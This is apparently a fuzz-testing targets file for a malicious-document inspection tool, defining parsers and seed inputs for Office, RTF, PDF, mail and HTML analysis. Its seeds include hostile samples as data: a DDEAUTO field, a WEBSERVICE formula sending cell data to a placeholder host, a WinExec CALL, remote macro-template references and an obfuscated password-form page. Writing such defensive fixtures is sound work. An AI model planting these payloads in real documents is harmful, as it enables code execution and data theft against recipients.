"""Targets: the parsers of documents one by one, and every document opened for what it carries."""

from collections.abc import Callable

from gifthorse.inspect.content import MemoryContent
from gifthorse.inspect.detectors import html_hidden_page
from gifthorse.inspect.documents import (
    addresses,
    compound,
    controls,
    encryption,
    formulas,
    letters,
    mail,
    markup,
    onenote,
    pdf,
    references,
    rtf,
    slides,
    spreadsheet,
    vba,
    word,
)
from gifthorse.inspect.documents.damage import DamagedDocument
from gifthorse.inspect.documents.macros import compound_macros, package_macros
from gifthorse.inspect.documents.objects import embedded_in, ole1_object, unpackaged
from gifthorse.inspect.documents.package import open_package
from gifthorse.inspect.filetypes import FileType
from gifthorse.inspect.item import Item
from tests.fuzz.of_containers import opened_as
from tests.fuzz.seeds import MODULES, PAGE, mails, office
from tests.fuzz.target import Target
from tests.samples import documents, files


def item_of(untrusted_input: bytes, filetype: FileType) -> Item:
    return Item(path="a", untrusted_name="a", content=MemoryContent(untrusted_input), filetype=filetype, head=untrusted_input[:65536])


def compound_file(untrusted_input: bytes) -> None:
    opened = compound.compound_from(untrusted_input)
    for path in list(opened.streams)[:50]:
        opened.read_head(path, 4096)
    list(embedded_in(opened))
    list(compound_macros(opened))
    word.word_document_in(opened)
    spreadsheet.workbook_in(opened)
    slides.objects_in(slides.presentation_stream(opened))
    encryption.method_of(opened)


def package(untrusted_input: bytes) -> None:
    from io import BytesIO

    opened = open_package(BytesIO(untrusted_input))
    _ = opened.relationships
    list(package_macros(opened))


def formula_text(untrusted_input: bytes) -> None:
    formulas.outward(untrusted_input.decode("utf-8", "replace"))
    list(formulas.formulas_in_table(untrusted_input))


def controlled(untrusted_input: bytes) -> None:
    """A package whose control, ribbon, sheet and relationships are the input."""
    from io import BytesIO

    names = ("word/activeX/activeX1.xml", "customUI/customUI.xml", "xl/worksheets/s.xml", "word/_rels/document.xml.rels", "content.xml")
    opened = open_package(BytesIO(documents.zipped(dict.fromkeys(names, untrusted_input))))
    list(controls.controls_of(opened))
    list(controls.taken_in(opened))
    list(formulas.formulas_of(opened))
    list(references.package_references(opened))


def hidden_page(untrusted_input: bytes) -> None:
    list(html_hidden_page.examine(item_of(untrusted_input, FileType.HTML)))


def workbook(untrusted_input: bytes) -> None:
    spreadsheet.workbook_from(untrusted_input)


def word_text(untrusted_input: bytes) -> None:
    word.fields_in(untrusted_input)
    for index in range(4):
        word.string_at(untrusted_input, index)


def macro_source(untrusted_input: bytes) -> None:
    for offset in (None, 0, 16):
        module = vba.module_from("a", untrusted_input, offset)
        _ = module.statements, module.source_removed
    list(vba.directory_records(untrusted_input))
    vba.decompress(untrusted_input)


def rich_text(untrusted_input: bytes) -> None:
    found = rtf.rtf_of(item_of(untrusted_input, FileType.RTF))
    for one in found.objects:
        unpackaged(ole1_object(one.content)[1])


def ole_object(untrusted_input: bytes) -> None:
    ole1_object(untrusted_input)
    unpackaged(untrusted_input)
    slides.objects_in(untrusted_input)


def pdf_file(untrusted_input: bytes) -> None:
    for attachment in pdf.pdf_of(item_of(untrusted_input, FileType.PDF)).attachments[:20]:
        pdf.attached(attachment)


def notebook(untrusted_input: bytes) -> None:
    list(onenote.files_in_notebook(item_of(untrusted_input, FileType.ONENOTE)))


def letter(untrusted_input: bytes) -> None:
    found = mail.letter_from(untrusted_input)
    for link in found.links[:200]:
        letters.deceives(link)
    written = untrusted_input.decode("utf-8", "replace")
    letters.forms_in(written)
    letters.invitation_links(written)


def mailbox(untrusted_input: bytes) -> None:
    for text in mail.messages_in(item_of(untrusted_input, FileType.MBOX)):
        mail.letter_from(text)


def page(untrusted_input: bytes) -> None:
    letters.links_in(untrusted_input.decode("latin-1"))
    text = untrusted_input[:2000].decode("utf-8", "replace")
    letters.words(text)
    addresses.leads(text)
    addresses.host_of(text)
    markup.events(untrusted_input, text=True)


def of_kind(*kinds: FileType) -> Callable[[], list[bytes]]:
    return lambda: [seed for kind in kinds for seed in office()[kind]]


OLE = (FileType.OLE_WORD, FileType.OLE_SHEET, FileType.OLE_SLIDES, FileType.OLE, FileType.OLE_ENCRYPTED_OFFICE, FileType.MSG)
OOXML = (FileType.OOXML_WORD, FileType.OOXML_SHEET, FileType.OOXML_SLIDES, FileType.ODF)


def packaged() -> list[bytes]:
    return [
        documents.ole1("Package", documents.packaged("a.exe", b"MZ" * 20)),
        documents.ole_native("b.txt", b"x"),
        documents.packaged("c", b"d"),
    ]


def compressed() -> list[bytes]:
    text = next(iter(MODULES.values())).encode()
    return [documents.vba_compressed(text), bytes(16) + documents.vba_compressed(text * 40), documents.vba_streams(MODULES)["VBA/dir"]]


def workbooks() -> list[bytes]:
    return [documents.workbook_stream([("One", 0, 0), ("Macro", 1, 2)], auto_open=True, links=["cmd\x03/c x", "a\x03b"])]


def word_texts() -> list[bytes]:
    return [
        b"\x13DDEAUTO c:\\\\x\x14y\x15 text" * 4,
        "\x13INCLUDE x\x14y\x15".encode("utf-16-le"),
        b"\xff\xff\x02\0\0\0\x01\0a\0\x02\0b\0c\0",
    ]


def formula_texts() -> list[bytes]:
    return [
        b'id,name\n1,"=WEBSERVICE(""http://files.example.net/?""&A2)"\n',
        b"=HYPERLINK(\"\\\\files.example.net\\s\\a.exe\",A1)\n'\\\\host.example\\s\\[b.xlsx]S'!A1",
        b'CALL("kernel32","WinExec","JCJ","calc",0)',
    ]


def control_parts() -> list[bytes]:
    return [
        b'<?xml version="1.0"?><x ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"><ocxPr value="http://a.example"/></x>'.replace(
            b"<x", b"<ocx"
        ),
        b'<?xml version="1.0"?><customUI xmlns="u" onLoad="http://a.example/t.dotm!M"/>',
        b'<w><f>WEBSERVICE("http://a.example/"&amp;A1)</f></w>',
        documents.relationships(("aFChunk", "../customUI/customUI.xml", False)),
    ]


def hidden_pages() -> list[bytes]:
    coded = b"PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPg=="
    return [
        b"<html><script>eval(atob('" + coded + b"'))</script></html>",
        b'<iframe src="data:text/html;base64,' + coded + b'"></iframe><meta http-equiv=refresh content="0;url=data:text/html,%3Cform%3E">',
        b"<iframe srcdoc='&lt;input type=password&gt;'></iframe><script>eval(String.fromCharCode(" + b"60,97," * 20 + b"62))</script>",
    ]


PARSERS = (
    Target(name="documents.compound", parse=compound_file, seeds=of_kind(*OLE), allowed=(DamagedDocument,)),
    Target(name="documents.package", parse=package, seeds=of_kind(*OOXML), allowed=(DamagedDocument,)),
    Target(name="documents.spreadsheet", parse=workbook, seeds=workbooks, allowed=(DamagedDocument,), tries=400),
    Target(name="documents.formulas", parse=formula_text, seeds=formula_texts, tries=400),
    Target(name="documents.controls", parse=controlled, seeds=control_parts, allowed=(DamagedDocument,), tries=300),
    Target(name="documents.hidden-page", parse=hidden_page, seeds=hidden_pages, tries=300),
    Target(name="documents.word", parse=word_text, seeds=word_texts, tries=400),
    Target(name="documents.vba", parse=macro_source, seeds=compressed, allowed=(DamagedDocument,), tries=400),
    Target(name="documents.rtf", parse=rich_text, seeds=of_kind(FileType.RTF)),
    Target(name="documents.objects", parse=ole_object, seeds=packaged, tries=400),
    Target(name="documents.pdf", parse=pdf_file, seeds=of_kind(FileType.PDF)),
    Target(name="documents.onenote", parse=notebook, seeds=of_kind(FileType.ONENOTE)),
    Target(name="documents.mail", parse=letter, seeds=mails),
    Target(name="documents.mailbox", parse=mailbox, seeds=of_kind(FileType.MBOX)),
    Target(
        name="documents.page",
        parse=page,
        seeds=lambda: [PAGE.encode(), documents.relationships(("a", "b", True)), files.png()],
        allowed=(DamagedDocument,),
    ),
)
OPENED = tuple(
    Target(name=f"unpack.{kind}", parse=opened_as(kind), seeds=of_kind(kind), tries=60)
    for kind in office()
    if kind not in {FileType.OOXML_SHEET, FileType.OOXML_SLIDES}
)
TARGETS = (*PARSERS, *OPENED)
